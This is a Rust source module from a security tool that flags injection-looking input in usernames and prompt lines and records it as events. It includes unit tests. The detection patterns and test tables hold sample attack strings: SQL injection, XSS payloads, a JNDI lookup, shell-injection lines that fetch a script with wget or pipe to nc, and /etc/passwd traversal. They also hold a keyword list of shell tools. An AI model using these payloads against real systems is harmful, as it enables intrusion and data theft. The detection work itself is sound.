//! Injection-looking input: SQL, script tags, terminal escapes, format
//! strings, template and shell injection, path traversal. `classify` is
//! cheap (one pass over at most `SCAN_CHARS` characters, no allocation
//! for clean ASCII beyond one lower-cased copy) and tuned against false
//! positives: an apostrophe in a name, a percent sign, a semicolon in a
//! sentence are not attacks (see the tables in the tests).
//!
//! The login path calls it on a failed attempt's username and the flow on
//! each visible line a user submits; a hit is recorded as a
//! `suspicious_input` event (the text escaped and bounded), which the
//! detector turns into an `injection_attempt` finding.

use crate::model::{escape_control, Event, EventType, Millis, Severity};

/// How much of an input is looked at.
pub const SCAN_CHARS: usize = 1024;
/// How much of it the event keeps (escaped after cutting).
pub const KEPT_CHARS: usize = 128;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Category {
    Sql,
    Script,
    TerminalEscape,
    FormatString,
    Template,
    Shell,
    PathTraversal,
}

impl Category {
    pub fn as_str(self) -> &'static str {
        match self {
            Category::Sql => "sql",
            Category::Script => "script",
            Category::TerminalEscape => "terminal_escape",
            Category::FormatString => "format_string",
            Category::Template => "template",
            Category::Shell => "shell",
            Category::PathTraversal => "path_traversal",
        }
    }
}

/// The kinds of injection `text` looks like, in a fixed order; empty when
/// it looks like ordinary input.
pub fn classify(text: &str) -> Vec<Category> {
    let mut raw = String::new();
    for (i, c) in text.chars().enumerate() {
        if i >= SCAN_CHARS {
            break;
        }
        raw.push(c);
    }
    let mut out = Vec::new();
    if raw.chars().any(is_control_escape) || has_textual_escape(&raw.to_ascii_lowercase()) {
        out.push(Category::TerminalEscape);
    }
    let lower = normalize(&raw);
    if looks_sql(&lower) {
        out.push(Category::Sql);
    }
    if looks_script(&lower) {
        out.push(Category::Script);
    }
    if looks_format_string(&raw) {
        out.push(Category::FormatString);
    }
    if looks_template(&lower) {
        out.push(Category::Template);
    }
    if looks_shell(&lower) {
        out.push(Category::Shell);
    }
    if looks_traversal(&lower) {
        out.push(Category::PathTraversal);
    }
    out
}

/// Characters that act on a terminal or a log line: C0 controls but tab
/// (ESC, BEL, CR, LF, backspace...), DEL, C1 controls (CSI, OSC, DCS...)
/// and the bidirectional overrides.
fn is_control_escape(c: char) -> bool {
    c != '\t' && crate::model::is_terminal_unsafe(c)
}

/// Escape sequences written out as text, for tools that expand them
/// (`echo -e`, printf, log viewers).
fn has_textual_escape(lower: &str) -> bool {
    ["\\x1b[", "\\x1b]", "\\033[", "\\033]", "\\e[", "\\e]", "\\u001b", "\\u009b", "\\x9b"].iter().any(|p| lower.contains(p))
}

/// Lower-cases ASCII, turns SQL comments `/**/` and runs of whitespace into
/// one space, so `UNION/**/SELECT` reads as `union select`.
fn normalize(raw: &str) -> String {
    let lower = raw.to_ascii_lowercase();
    let mut out = String::with_capacity(lower.len());
    let mut rest = lower.as_str();
    while !rest.is_empty() {
        if let Some(after) = rest.strip_prefix("/*") {
            match after.find("*/") {
                Some(end) => {
                    rest = &after[end + 2..];
                    if !out.ends_with(' ') {
                        out.push(' ');
                    }
                    continue;
                }
                None => {
                    // An unclosed comment is itself a sign: keep it visible.
                    out.push_str("/*");
                    rest = after;
                    continue;
                }
            }
        }
        let c = rest.chars().next().unwrap_or(' ');
        rest = &rest[c.len_utf8()..];
        if c.is_whitespace() {
            if !out.ends_with(' ') {
                out.push(' ');
            }
        } else {
            out.push(c);
        }
    }
    out
}

fn words_after(s: &str) -> impl Iterator<Item = &str> {
    s.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '@' || c == '$' || c == '*')).filter(|w| !w.is_empty())
}

/// Whether `s` starts (after spaces) with `word` as a whole word.
fn starts_with_word(s: &str, word: &str) -> bool {
    let t = s.trim_start();
    t.starts_with(word) && !t[word.len()..].chars().next().is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
}

fn looks_sql(s: &str) -> bool {
    if s.contains("union select") || s.contains("union all select") || s.contains("union distinct select") {
        return true;
    }
    for marker in ["information_schema", "xp_cmdshell", "@@version", "waitfor delay", "into outfile", "load_file(", "pg_sleep(", "benchmark(", "dbms_pipe", "utl_http"] {
        if s.contains(marker) {
            return true;
        }
    }
    // sleep(5) and sleep (5)
    for (i, _) in s.match_indices("sleep") {
        let before_ok = !s[..i].chars().last().is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
        let after = s[i + 5..].trim_start();
        if before_ok && after.starts_with('(') && after[1..].trim_start().starts_with(|c: char| c.is_ascii_digit()) {
            return true;
        }
    }
    // A quote that closes a string and goes on with SQL: ' or 1=1, admin'--,
    // x';drop ..., ') or ('a'='a.
    for (i, q) in s.char_indices() {
        if q != '\'' && q != '"' && q != '`' {
            continue;
        }
        let rest = s[i + 1..].trim_start_matches([' ', ')']);
        if rest.starts_with(';') || rest.starts_with("--") || rest.starts_with('#') || rest.starts_with("/*") {
            return true;
        }
        for op in ["or", "and", "||", "&&"] {
            let Some(after) = rest.strip_prefix(op) else { continue };
            let boundary = op.len() == 2 && op.chars().all(|c| !c.is_ascii_alphabetic()) || after.starts_with([' ', '(', '\'', '"']);
            let after = after.trim_start_matches([' ', '(']);
            if boundary && (after.starts_with(['\'', '"']) || after.starts_with(|c: char| c.is_ascii_digit()) || starts_with_word(after, "true") || starts_with_word(after, "not")) {
                return true;
            }
        }
    }
    // Tautologies without a quote: `or 1=1`, `or true--`.
    if s.contains(" or 1=1") || s.contains(" or 1 = 1") || s.contains(" or true--") {
        return true;
    }
    // A statement after a semicolon: ; drop table, ; delete from ...
    for (i, _) in s.match_indices(';') {
        let rest = &s[i + 1..];
        let mut w = words_after(rest);
        let (Some(first), second) = (w.next(), w.next()) else { continue };
        let stmt = match first {
            "drop" | "truncate" | "alter" | "create" => matches!(second, Some("table" | "database" | "schema" | "user" | "view" | "procedure" | "function")),
            "delete" => second == Some("from"),
            "insert" => second == Some("into"),
            "update" => w.next() == Some("set"),
            "select" => rest.contains(" from ") || second == Some("*"),
            "exec" | "execute" => second.is_some_and(|x| x.starts_with("xp_") || x.starts_with("sp_") || x == "master"),
            "shutdown" => true,
            _ => false,
        };
        if stmt {
            return true;
        }
    }
    false
}

const SCRIPT_TAGS: &[&str] = &["script", "iframe", "object", "embed", "applet", "frameset", "svg", "img", "body", "video", "audio", "input", "details", "marquee", "math", "style", "link", "meta", "base", "form", "a", "div", "image", "isindex", "xss"];

fn looks_script(s: &str) -> bool {
    for marker in ["javascript:", "vbscript:", "data:text/html", "document.cookie", "</script", "<script", "<iframe", "<object", "<embed", "<applet", "srcdoc="] {
        if s.contains(marker) {
            return true;
        }
    }
    // A tag with an event handler: <img src=x onerror=...>, <svg/onload=...>.
    for (i, _) in s.match_indices('<') {
        let rest = &s[i + 1..];
        let name: String = rest.chars().take_while(|c| c.is_ascii_alphabetic()).collect();
        if name.is_empty() || !SCRIPT_TAGS.contains(&name.as_str()) {
            continue;
        }
        let tag = &rest[name.len()..];
        let tag = &tag[..tag.find('>').unwrap_or(tag.len())];
        let mut from = 0;
        while let Some(j) = tag[from..].find("on") {
            let at = from + j;
            let before = tag[..at].chars().last();
            let handler: String = tag[at + 2..].chars().take_while(|c| c.is_ascii_alphabetic()).collect();
            let after = tag[at + 2 + handler.len()..].trim_start();
            if before.is_some_and(|c| c == ' ' || c == '/' || c == '"' || c == '\'') && handler.len() >= 3 && after.starts_with('=') {
                return true;
            }
            from = at + 2;
        }
    }
    false
}

/// printf-style conversions: any `%n`, a positional `%1$s`, or two or more
/// of `%s`, `%x`, `%p` (with flags and widths, like `%08x`).
fn looks_format_string(raw: &str) -> bool {
    let b = raw.as_bytes();
    let mut conversions = 0;
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'%' {
            i += 1;
            continue;
        }
        let mut j = i + 1;
        let digits_from = j;
        while j < b.len() && b[j].is_ascii_digit() {
            j += 1;
        }
        let positional = j > digits_from && j < b.len() && b[j] == b'$';
        if positional {
            j += 1;
        }
        while j < b.len() && matches!(b[j], b'-' | b'+' | b'#' | b'0') {
            j += 1;
        }
        while j < b.len() && b[j].is_ascii_digit() {
            j += 1;
        }
        if j < b.len() && b[j] == b'.' {
            j += 1;
            while j < b.len() && b[j].is_ascii_digit() {
                j += 1;
            }
        }
        while j < b.len() && matches!(b[j], b'h' | b'l' | b'z' | b'j' | b't' | b'q') {
            j += 1;
        }
        match b.get(j) {
            Some(b'n') => return true,
            Some(b's' | b'x' | b'X' | b'p' | b'd' | b'u' | b'c') if positional => return true,
            Some(b's' | b'x' | b'X' | b'p') => conversions += 1,
            _ => {}
        }
        i = j.max(i + 1);
    }
    conversions >= 2
}

fn looks_template(s: &str) -> bool {
    for marker in ["${jndi:", "${env:", "${java:", "${sys:", "${lower:", "${upper:", "${::-", "${date:", "${ctx:", "<%=", "#{7*7}", "${7*7}", "{{7*7}}"] {
        if s.contains(marker) {
            return true;
        }
    }
    // {{ ... }} holding an expression or an object walk: {{config.items()}}, {{self.__init__}}.
    if let Some(i) = s.find("{{") {
        if let Some(j) = s[i..].find("}}") {
            let inner = &s[i + 2..i + j];
            if inner.contains("__") || inner.contains("config") || inner.contains("self") || inner.contains('*') || inner.contains("()") {
                return true;
            }
        }
    }
    false
}

const SHELL_COMMANDS: &[&str] = &["wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "rm", "cat", "id", "whoami", "uname", "chmod", "python", "python3", "perl", "busybox", "tftp", "telnet", "reboot", "shutdown", "echo", "ping", "ls"];

fn looks_shell(s: &str) -> bool {
    // $(...) and `...` command substitution.
    if let Some(i) = s.find("$(") {
        if s[i + 2..].contains(')') {
            return true;
        }
    }
    if let Some(i) = s.find('`') {
        if let Some(j) = s[i + 1..].find('`') {
            if s[i + 1..i + 1 + j].trim().split(' ').next().is_some_and(|w| SHELL_COMMANDS.contains(&w)) {
                return true;
            }
        }
    }
    // ; cmd, | cmd, && cmd, || cmd
    for sep in [";", "|", "&&"] {
        for (i, _) in s.match_indices(sep) {
            let rest = s[i + sep.len()..].trim_start_matches(['|', '&', ' ']);
            let word: String = rest.chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
            let after = rest[word.len()..].chars().next();
            if SHELL_COMMANDS.contains(&word.as_str()) && after.is_none_or(|c| c == ' ' || c == ';' || c == '|' || c == '&') {
                // "ls" or "id" after a semicolon in a sentence is rare; a
                // following argument or end of input is what commands look like.
                return true;
            }
        }
    }
    false
}

fn looks_traversal(s: &str) -> bool {
    ["../../", "..\\..\\", "/etc/passwd", "/etc/shadow", "%2e%2e%2f", "%2e%2e/", "..%2f", "%252e%252e"].iter().any(|m| s.contains(m))
}

/// The `suspicious_input` event for an input that `classify` flagged:
/// the text cut to `KEPT_CHARS` characters and escaped, its length, the
/// categories and where it was typed (`source`: "username", or
/// "prompt:NAME").
pub fn suspicious_input_event(source: &str, text: &str, categories: &[Category], now: Millis) -> Event {
    let cut: String = text.chars().take(KEPT_CHARS).collect();
    let length = text.chars().count();
    let names: Vec<&str> = categories.iter().map(|c| c.as_str()).collect();
    Event::new(EventType::SuspiciousInput, Severity::Medium, format!("injection-looking input ({}) in {source}", names.join(", ")), now)
        .detail("kind", "injection")
        .detail("source", source)
        .detail("categories", names)
        .detail("text", escape_control(&cut))
        .detail("length", length)
        .detail("truncated", length > KEPT_CHARS)
        .suspicious(50)
}

impl crate::core::Core {
    /// A line a logged-in user submitted at a visible prompt (never a
    /// password): injection-looking text is recorded as `suspicious_input`
    /// (source `prompt:NAME`), escaped and bounded. Returns whether it was.
    /// Cheap enough to call on every line.
    pub async fn prompt_input(&self, user: &crate::model::User, session_id: i64, ip: std::net::IpAddr, prompt: &str, line: &str, now: Millis) -> bool {
        if !self.settings().detection.injection.enabled {
            return false;
        }
        let categories = classify(line);
        if categories.is_empty() {
            return false;
        }
        let e = suspicious_input_event(&format!("prompt:{prompt}"), line, &categories, now)
            .user(Some(user.id), Some(&user.username))
            .ip(Some(&ip.to_string()))
            .session(Some(session_id));
        self.record(e).await;
        true
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use Category::*;

    #[test]
    fn attacks_are_recognised() {
        let cases: &[(&str, &[Category])] = &[
            ("x';DROP TABLE users;--", &[Sql]),
            ("admin'--", &[Sql]),
            ("admin' #", &[Sql]),
            ("' or '1'='1", &[Sql]),
            ("1' OR 1=1 -- -", &[Sql]),
            ("') or ('a'='a", &[Sql]),
            ("\" or \"\"=\"", &[Sql]),
            ("x' AND 1=2 UNION SELECT password FROM users--", &[Sql]),
            ("1 UNION/**/SELECT null,null", &[Sql]),
            ("1; drop table sessions", &[Sql]),
            ("a;delete from users", &[Sql]),
            ("1;update users set admin=1", &[Sql]),
            ("x'; exec xp_cmdshell 'dir'--", &[Sql]),
            ("1 and sleep(5)", &[Sql]),
            ("1' waitfor delay '0:0:5'--", &[Sql]),
            ("<script>alert(1)</script>", &[Script]),
            ("<ScRiPt src=//evil.example/x.js>", &[Script]),
            ("<img src=x onerror=alert(1)>", &[Script]),
            ("<svg/onload=alert(1)>", &[Script]),
            ("<body onload=alert(1)>", &[Script]),
            ("javascript:alert(document.cookie)", &[Script]),
            ("evil\x1b[2Jx", &[TerminalEscape]),
            ("a\u{9b}31mb", &[TerminalEscape]),
            ("osc\u{9d}0;title\u{7}", &[TerminalEscape]),
            ("root\r\nFake log line", &[TerminalEscape]),
            ("rtl\u{202e}gnp", &[TerminalEscape]),
            ("\\x1b[31mred", &[TerminalEscape]),
            ("\\033]0;pwned\\007", &[TerminalEscape]),
            ("%n", &[FormatString]),
            ("%s%s%s%s", &[FormatString]),
            ("%08x.%08x.%08x", &[FormatString]),
            ("%1$s", &[FormatString]),
            ("AAAA%p%p", &[FormatString]),
            ("${jndi:ldap://x.example/a}", &[Template]),
            ("${${::-j}ndi:rmi://x/a}", &[Template]),
            ("{{7*7}}", &[Template]),
            ("{{config.items()}}", &[Template]),
            ("$(reboot)", &[Shell]),
            ("`id`", &[Shell]),
            ("x; wget http://x.example/a.sh", &[Shell]),
            ("a|nc 10.0.0.1 4444", &[Shell]),
            ("x && curl -s x.example", &[Shell]),
            ("../../../../etc/passwd", &[PathTraversal]),
            ("..%2f..%2fwindows", &[PathTraversal]),
            ("<script>'; DROP TABLE x;--\x1b[0m", &[TerminalEscape, Sql, Script]),
        ];
        for (input, want) in cases {
            assert_eq!(classify(input), want.to_vec(), "input {input:?}");
        }
    }

    /// Ordinary input that must not be taken for an attack.
    #[test]
    fn ordinary_input_is_not_flagged() {
        let cases = [
            "alice",
            "O'Brien",
            "D'Angelo-Smith",
            "it's fine",
            "I'm done; thanks",
            "Rock 'n' roll",
            "we'll update; then leave",
            "don't select me",
            "\"quoted\" words",
            "100% sure",
            "50% off, 20% more",
            "%d",
            "a<b and c>d",
            "I <3 you",
            "<b>bold</b>",
            "email me at x@example.org",
            "C:\\Users\\me",
            "fish & chips",
            "yes | no",
            "one;two;three",
            "tom's; identity",
            "select",
            "union jack",
            "drop; me",
            "sleepy(5)",
            "I need sleep (tonight)",
            "{{name}}",
            "cost: $5 (approx)",
            "../notes.txt",
            "tab\there",
            "ünïcode ñame",
            "YES",
            "OFF",
            "3",
            "",
            "online",
            "<a href=x>done</a>",
        ];
        for input in cases {
            assert_eq!(classify(input), Vec::<Category>::new(), "input {input:?}");
        }
    }

    #[test]
    fn the_event_keeps_the_text_escaped_and_bounded() {
        let long = format!("x';DROP TABLE users;--{}\x1b[2J", "A".repeat(200));
        let e = suspicious_input_event("username", &long, &classify(&long), Millis(5));
        assert_eq!(e.event_type, EventType::SuspiciousInput);
        assert!(e.is_suspicious);
        let text = e.details["text"].as_str().expect("text");
        assert_eq!(text, format!("x';DROP TABLE users;--{}", "A".repeat(128 - 22)));
        assert_eq!(e.details["length"], 22 + 200 + 4);
        assert_eq!(e.details["truncated"], true);
        assert_eq!(e.details["categories"], serde_json::json!(["terminal_escape", "sql"]));
        let short = suspicious_input_event("prompt:otp_off", "evil\x1b[2Jx", &[TerminalEscape], Millis(5));
        assert_eq!(short.details["text"], "evil\\x1b[2Jx");
        assert_eq!(short.details["truncated"], false);
        assert!(!short.description.contains('\x1b'));
    }
}
